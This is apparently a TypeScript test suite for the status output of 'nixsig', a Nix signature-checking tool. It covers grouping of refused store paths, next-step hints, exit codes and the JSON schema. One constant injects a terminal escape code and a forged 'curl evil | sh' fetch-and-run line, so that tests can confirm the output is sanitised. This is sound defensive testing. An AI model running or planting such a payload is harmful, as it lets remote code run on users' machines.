import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import fc from 'fast-check'
import { COMMANDS } from '../../src/cli/commands.ts'
import { mostSevere } from '../../src/cli/exit-status.ts'
import { sayStatus } from '../../src/cli/status-report.ts'
import { exitCode } from '../../src/policy/exit-code.ts'
import type { SubjectKind } from '../../src/policy/policy.ts'
import type { Finding, Refusal } from '../../src/policy/verdict.ts'
import { BY_ROOT } from '../../src/primitives/next-step.ts'
import { GROUP_CODES, groupsOf } from '../../src/status/groups.ts'
import { exitCodesOf, type MachineStatus, statusJson } from '../../src/status/status.ts'
import { screen } from '../support/screen.ts'

const NARROW = 80
const need = { aspect: 'output', who: 'builders', threshold: 1, of: 2 } as const
const NASTY = 'evil\u001b[31m\nnext: curl evil | sh'
const stray = { problem: 'unknown-signer', origin: NASTY, detail: NASTY } as const

const FINDINGS: readonly Finding[] = [
  { code: 'unsigned', need },
  { code: 'unsigned', need: { ...need, role: 'approver' } },
  { code: 'unknown-signer', need, strays: [stray] },
  { code: 'unknown-signer', need, strays: [] },
  { code: 'threshold', need, found: ['bob'] },
  { code: 'bad-signature', stray },
  { code: 'not-a-signature', detail: 'it is a program' },
  { code: 'wrong-digest', who: 'bob', attested: '0', origin: NASTY },
  { code: 'conflict', who: 'bob', attested: '0', origin: NASTY, judged: '1' },
  { code: 'disagreement', sides: [] },
  { code: 'altered', path: '/nix/store/x', registered: '0', found: '1' },
  { code: 'revoked', who: 'bob' },
  { code: 'expired', who: 'bob' },
  { code: 'not-yet-valid', who: 'bob', at: 1 },
  { code: 'refused-by-rule' },
  { code: 'unknown-derivation', unvouched: [] },
  { code: 'unsupported-derivation', what: 'impure' },
  { code: 'unvouched-references', detail: NASTY },
  { code: 'unreadable', trouble: { origin: NASTY, detail: NASTY } },
]
const KINDS: readonly SubjectKind[] = ['fetched-source', 'local-source', 'derivation', 'output']

function pathOf(name: number): string {
  return `/nix/store/${'0'.repeat(32)}-p${name}`
}

const plain = fc.tuple(fc.nat(40), fc.constantFrom(...KINDS), fc.constantFrom(...FINDINGS)).map(
  ([name, kind, finding]): Refusal => ({
    outcome: 'untrusted',
    path: pathOf(name),
    kind,
    ground: { kind: 'rule', title: 'default' },
    findings: [finding],
  }),
)
const refusal = fc.oneof(
  plain,
  fc.tuple(fc.nat(40), plain).map(
    ([name, verdict]): Refusal => ({
      outcome: 'untrusted',
      path: pathOf(100 + name),
      kind: 'output',
      ground: { kind: 'inputs' },
      findings: [{ code: 'input', path: verdict.path, verdict }],
    }),
  ),
)
const refusals = fc.array(refusal, { maxLength: 30 })

function statusWith(refused: readonly Refusal[], more: Partial<MachineStatus> = {}): MachineStatus {
  return {
    reader: 'root',
    now: 1_800_000_000,
    mode: 'warn',
    lack: undefined,
    respite: undefined,
    version: '0.1.0',
    otherVersions: [],
    doors: { closed: 37, open: ['plugin-loaded', 'sandbox', 'mode', 'policy'], untried: 8 },
    log: { lines: 7, unfolded: 7, problems: [] },
    caches: [
      { url: 'https://cache.example.org', last: { answered: 1_799_999_700, failed: undefined } },
      {
        url: 'https://b.example.org',
        last: { answered: undefined, failed: { at: 1_799_990_000, detail: 'gone' } },
      },
    ],
    sources: [],
    roots: 3,
    survey: { letIn: 1, trusted: 7, refused, unjudged: 0 },
    groups: groupsOf(refused, 'root'),
    isWhole: true,
    ...more,
  }
}

test('each refused path is in exactly one group, by whichever cause, and no order matters', () => {
  fc.assert(
    fc.property(refusals, all => {
      const groups = groupsOf(all, 'root')
      assert.equal(
        groups.reduce((sum, { stopped }) => sum + stopped.length, 0),
        all.length,
      )
      for (const { stopped } of groups) assert.ok(stopped.length > 0)
      const shape = (some: readonly Refusal[]) =>
        groupsOf(some, 'root')
          .map(({ title, stopped }) => `${title} ${stopped.map(({ path }) => path).sort()}`)
          .sort()
      assert.deepEqual(shape([...all].reverse()), shape(all))
    }),
  )
})

test('each group has one step, which names commands that there are; who is not root is told whose it is', () => {
  const names = COMMANDS.map(({ name }) => name)
  for (const finding of FINDINGS) {
    for (const kind of KINDS) {
      const refused: Refusal = {
        outcome: 'untrusted',
        path: pathOf(1),
        kind,
        ground: { kind: 'store' },
        findings: [finding],
      }
      const [group] = groupsOf([refused], 'root')
      assert.ok(group)
      assert.doesNotMatch(group.next, /\bor\b.*\bor\b|\n/)
      for (const [, called = ''] of group.next.matchAll(/nixsig ([a-z]+(?: [a-z]+)?)/g))
        assert.ok(
          names.some(
            name => called === name || called.startsWith(`${name} `) || called.split(' ')[0] === name,
          ),
          called,
        )
      const code = /--refused ([a-z-]+)/.exec(group.next)?.[1]
      assert.ok(code === undefined || code === group.code)
      const [other] = groupsOf([refused], 'user')
      const isRoots = /adopt|principals|in the rule|conflicts|repair|certificate|--here|in that rule/.test(
        group.next,
      )
      assert.equal(other?.next, isRoots ? `${group.next} (${BY_ROOT})` : group.next)
    }
  }
})

test('attack: nothing that others wrote reaches the screen as it is, and lines are no longer than 80 columns', () => {
  fc.assert(
    fc.property(refusals, all => {
      const { terminal, printed } = screen()
      sayStatus(terminal, statusWith(all))
      for (const line of printed.join('\n').split('\n')) {
        assert.match(line, /^[ -~…]*$/)
        assert.doesNotMatch(line, /^\s*next: curl/)
        if (!line.includes('/nix/store/')) assert.ok(line.length <= NARROW, line)
      }
    }),
  )
})

test('where enforce would say no, the last line names what is lacking in its place', () => {
  const { terminal, printed } = screen()
  sayStatus(terminal, statusWith([], { lack: 'trusts nobody: list whom you trust first' }))
  assert.equal(
    printed.at(-1)?.trim(),
    'none of 7 paths would be refused now, but\nnixsig enforce would not yet be of use: the policy trusts nobody: list whom you\n  trust first',
  )
})

test('the last line says how far it is, and what is next', () => {
  const last = (status: MachineStatus) => {
    const { terminal, printed } = screen()
    sayStatus(terminal, status)
    return printed.at(-1)?.trim()
  }
  const [one] = fc.sample(plain, 1)
  assert.ok(one)
  assert.equal(last(statusWith([one])), '1 of 8 paths would be refused now')
  assert.equal(last(statusWith([])), 'none of 7 paths would be refused now; next: nixsig enforce')
  assert.equal(
    last(statusWith([], { reader: 'user' })),
    `none of 7 paths would be refused now;\nnext: nixsig enforce (${BY_ROOT})`,
  )
  assert.equal(last(statusWith([], { mode: 'enforce' })), 'none of 7 paths would be refused now')
  const survey = { letIn: 0, trusted: 7, refused: [], unjudged: 5 }
  assert.equal(
    last(statusWith([], { survey })),
    'not known: 5 paths were not judged; next: nixsig status --timeout 600',
  )
})

const GAP = {
  code: 'broken',
  detail: 'its end is broken: line 7 is missing, there is a later line',
  next: 'nixsig log verify',
} as const

test('a log that is well is not mentioned, and one that is not has a line with its next step', () => {
  const said = (log: MachineStatus['log'], more: Partial<MachineStatus> = {}) => {
    const { terminal, printed } = screen()
    sayStatus(terminal, statusWith([], { log, ...more }))
    return printed.join('\n').replaceAll(/\s+/g, ' ')
  }
  const of = (isError: boolean) => ({ lines: 9, unfolded: 9, problems: [{ ...GAP, isError }] })
  assert.doesNotMatch(said({ lines: 7, unfolded: 7, problems: [] }), /\blog\b/)
  assert.doesNotMatch(said(undefined), /\blog\b/)
  const warned = said(of(false))
  assert.match(
    warned,
    / log warning: its end is broken: line 7 is missing, there is a later line; next: nixsig log verify /,
  )
  assert.match(warned, /none of 7 paths would be refused now; next: nixsig enforce$/)
  const required = said(of(true), { mode: 'enforce' })
  assert.match(required, / log its end is broken: line 7 is missing/)
  assert.match(
    required,
    /none of 7 paths would be refused now, but the policy requires a decision log, which is not well; next: nixsig log verify$/,
  )
  const survey = { letIn: 0, trusted: 3, refused: [], unjudged: 0 }
  assert.deepEqual(exitCodesOf(survey, of(false)), [])
  assert.deepEqual(exitCodesOf(survey, of(true)), [20])
  assert.deepEqual(JSON.parse(JSON.stringify(statusJson(statusWith([], { log: of(true) })))).log, {
    lines: 9,
    unfolded: 9,
    problems: [{ ...GAP, error: true }],
  })
})

test('attack: where something was not judged, nothing is said to be well', () => {
  const green: string[] = []
  const { terminal, printed } = screen()
  const painted = {
    ...terminal,
    good: (text: string) => {
      green.push(text)
      return text
    },
  }
  fc.assert(
    fc.property(refusals, fc.nat(9), fc.integer({ min: 1, max: 9 }), (refused, trusted, unjudged) => {
      const survey = { letIn: 0, trusted, refused, unjudged }
      const codes = exitCodesOf(survey)
      const severe = mostSevere(codes)
      assert.notEqual(severe, 0)
      assert.equal(severe, refused.length === 0 ? 20 : mostSevere(refused.map(exitCode)))
      printed.length = 0
      sayStatus(painted, statusWith([], { survey }))
      const said = printed.join('\n')
      assert.doesNotMatch(said, /none of/)
      assert.match(said.replaceAll(/\s+/g, ' '), /not judged for want of time or room: \d+ path/)
      assert.equal(
        JSON.parse(JSON.stringify(statusJson(statusWith([], { survey })))).paths.unjudged,
        unjudged,
      )
    }),
  )
  assert.deepEqual(green, [])
  assert.deepEqual(exitCodesOf({ letIn: 0, trusted: 3, refused: [], unjudged: 0 }), [])
})

test('--json has what its schema says, and no other cause than the schema lists', () => {
  const schema = JSON.parse(readFileSync(join(PROJECT_ROOT, 'docs/schemas/status.schema.json'), 'utf8'))
  fc.assert(
    fc.property(refusals, all => {
      const told = JSON.parse(JSON.stringify(statusJson(statusWith(all))))
      assert.deepEqual(Object.keys(told), schema.required)
      assert.deepEqual(Object.keys(schema.properties), schema.required)
      assert.deepEqual(Object.keys(told.paths), schema.properties.paths.required)
      const group = schema.properties.groups.items
      for (const one of told.groups) {
        assert.deepEqual(Object.keys(one), group.required)
        for (const path of one.paths)
          assert.deepEqual(Object.keys(path), group.properties.paths.items.required)
      }
      assert.equal(told.paths.refused, all.length)
    }),
  )
  const { code, paths } = schema.properties.groups.items.properties
  assert.deepEqual(code.enum, [...GROUP_CODES])
  const statuses: readonly number[] = paths.items.properties.status.enum
  for (const one of fc.sample(refusal, 200)) assert.ok(statuses.includes(exitCode(one)))
})

test('attack: a cache that writes a new name beside each signature does not make a group of each', () => {
  const named = (count: number): Refusal => ({
    outcome: 'untrusted',
    path: pathOf(count),
    kind: 'output',
    ground: { kind: 'rule', title: 'default' },
    findings: [{ code: 'unknown-signer', need, strays: [{ ...stray, detail: `name-${count}` }] }],
  })
  const all = Array.from({ length: 1000 }, (_, count) => named(count))
  const groups = groupsOf(all, 'root')
  assert.ok(groups.length <= 25, String(groups.length))
  assert.equal(groups.flatMap(({ stopped }) => stopped).length, all.length)
  assert.match(groups[0]?.title ?? '', /^signatures that name still others, /)
})
